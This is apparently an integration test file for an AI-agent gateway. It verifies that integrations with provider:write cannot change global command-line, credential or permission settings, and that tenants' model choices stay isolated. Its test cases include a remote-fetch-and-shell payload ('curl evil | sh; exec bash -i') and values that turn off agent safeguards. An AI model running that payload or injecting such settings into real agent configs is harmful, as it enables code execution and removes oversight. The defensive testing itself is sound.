import { afterEach, describe, expect, it } from 'vitest';
import { createSession } from '../fixtures/sessions.js';
import { waitForOutput } from '../support/gateway.js';
import { MODES, startBox, type Box } from './support.js';

// Issue #11 §4: an integration holding only provider:write set the shell's extra_args to
// a payload, and the admin's next ordinary shell ran it. Provider config is global, so an
// integration may change only integration-writable fields, in a layer of its own.
describe.each(MODES)('provider:write against how other sessions start (sandbox %s)', (mode) => {
  let box: Box;
  afterEach(async () => box?.close());

  const patch = (token: string | undefined, provider: string, body: unknown) =>
    box.t.apiJson(`/providers/${provider}/config`, { method: 'PATCH', body, ...(token ? { token } : {}) });

  it('refuses every field that changes a command line or a credential with a 403 naming it', async () => {
    box = await startBox(mode);
    const { key } = await box.integration('writer', ['provider:read', 'provider:write', 'session:create', 'session:read']);
    const cases: Array<[string, Record<string, unknown>, string]> = [
      ['claude', { extra_args: ['-c', 'curl evil | sh; exec bash -i'] }, 'extra_args'],
      ['claude', { api_key: 'sk-attacker' }, 'api_key'],
      ['claude', { permission_mode: 'bypassPermissions' }, 'permission_mode'],
      ['claude', { enabled: false }, 'enabled'],
      ['claude', { command: '/tmp/evil' }, 'command'],
      ['claude', { extraArgs: ['--evil'] }, 'extraArgs'],
      ['codex', { sandbox: 'danger-full-access' }, 'sandbox'],
      ['gemini', { model: 'ok', approval_mode: 'yolo' }, 'approval_mode'],
    ];
    for (const [provider, body, field] of cases) {
      const res = await patch(key, provider, body);
      expect(res.status, JSON.stringify(body)).toBe(403);
      expect(res.body.code).toBe('forbidden');
      expect(res.body.error).toMatch(new RegExp(`^${field}: only the admin`));
    }
    // Nothing changed for anyone: the admin's next claude starts as before and gemini kept no model.
    const admin = await createSession(box.t, { provider_id: 'claude', cwd: await box.workdir('admin') });
    const argv = await waitForOutput(box.t, admin.id, 'FAKE claude ARGV');
    expect(argv).not.toContain('evil');
    expect(argv).not.toContain('bypassPermissions');
    expect((await box.t.apiJson('/providers/gemini')).body.config).toEqual({});
    expect((await box.t.apiJson('/providers/claude')).body.enabled).toBe(true);
  });

  it("an integration's model applies to its own sessions only, never another tenant's or the operator's", async () => {
    box = await startBox(mode);
    const scopes = ['provider:read', 'provider:write', 'session:create', 'session:read'];
    const a = await box.integration('tenant-a', scopes);
    const b = await box.integration('tenant-b', scopes);
    const res = await patch(a.key, 'claude', { model: 'model-of-a' });
    expect(res.status).toBe(200);
    expect(res.body.config).toEqual({ model: 'model-of-a' });
    expect((await box.t.apiJson('/providers/claude', { token: b.key })).body.config).toEqual({});
    expect((await box.t.apiJson('/providers/claude')).body.config).toEqual({});

    const argvOf = async (token: string | undefined) => {
      const s = await createSession(box.t, { provider_id: 'claude', cwd: await box.workdir('m') }, token);
      return waitForOutput(box.t, s.id, 'FAKE claude ARGV');
    };
    expect(await argvOf(a.key)).toContain('[--model] [model-of-a]');
    expect(await argvOf(b.key)).not.toContain('model-of-a');
    expect(await argvOf(undefined)).not.toContain('model-of-a');

    // The operator's model still shows through where the integration set none; deleting A drops its layer.
    await patch(undefined, 'claude', { model: 'operator-model' });
    expect((await box.t.apiJson('/providers/claude', { token: b.key })).body.config).toEqual({ model: 'operator-model' });
    expect((await box.t.apiJson('/providers/claude', { token: a.key })).body.config).toEqual({ model: 'model-of-a' });
    expect((await box.t.apiJson(`/integrations/${a.id}`, { method: 'DELETE' })).status).toBe(204);
    await expect.poll(async () => box.t.gateway.stores.providerConfig.get(`claude@${a.id}`)).toEqual({});
  });

  it('concurrent writes of two tenants and the admin each land in their own layer, none lost', async () => {
    box = await startBox(mode);
    const scopes = ['provider:read', 'provider:write'];
    const a = await box.integration('burst-a', scopes);
    const b = await box.integration('burst-b', scopes);
    const writes = Array.from({ length: 20 }, (_, i) => [
      patch(a.key, 'gemini', { model: `a-${i}` }),
      patch(b.key, 'gemini', { model: `b-${i}` }),
      patch(a.key, 'gemini', { approval_mode: 'yolo' }),
      patch(undefined, 'gemini', i % 2 ? { approval_mode: 'default' } : { api_key: `k-${i}` }),
    ]).flat();
    const results = await Promise.all(writes);
    expect(results.map((r) => r.status).filter((s) => s !== 200 && s !== 403)).toEqual([]);
    expect(results.filter((r) => r.status === 403)).toHaveLength(20); // a's approval_mode writes
    // Requests race, so which value of a field is last is open; that every field landed, in its own layer, is not.
    const global = (await box.t.apiJson('/providers/gemini')).body.config;
    expect(global).toEqual({ api_key: expect.stringMatching(/^k-\d+$/), approval_mode: 'default' });
    expect((await box.t.apiJson('/providers/gemini', { token: a.key })).body.config).toEqual({ model: expect.stringMatching(/^a-\d+$/), api_key: '********', approval_mode: 'default' });
    expect((await box.t.apiJson('/providers/gemini', { token: b.key })).body.config).toEqual({ model: expect.stringMatching(/^b-\d+$/), api_key: '********', approval_mode: 'default' });
  });
});
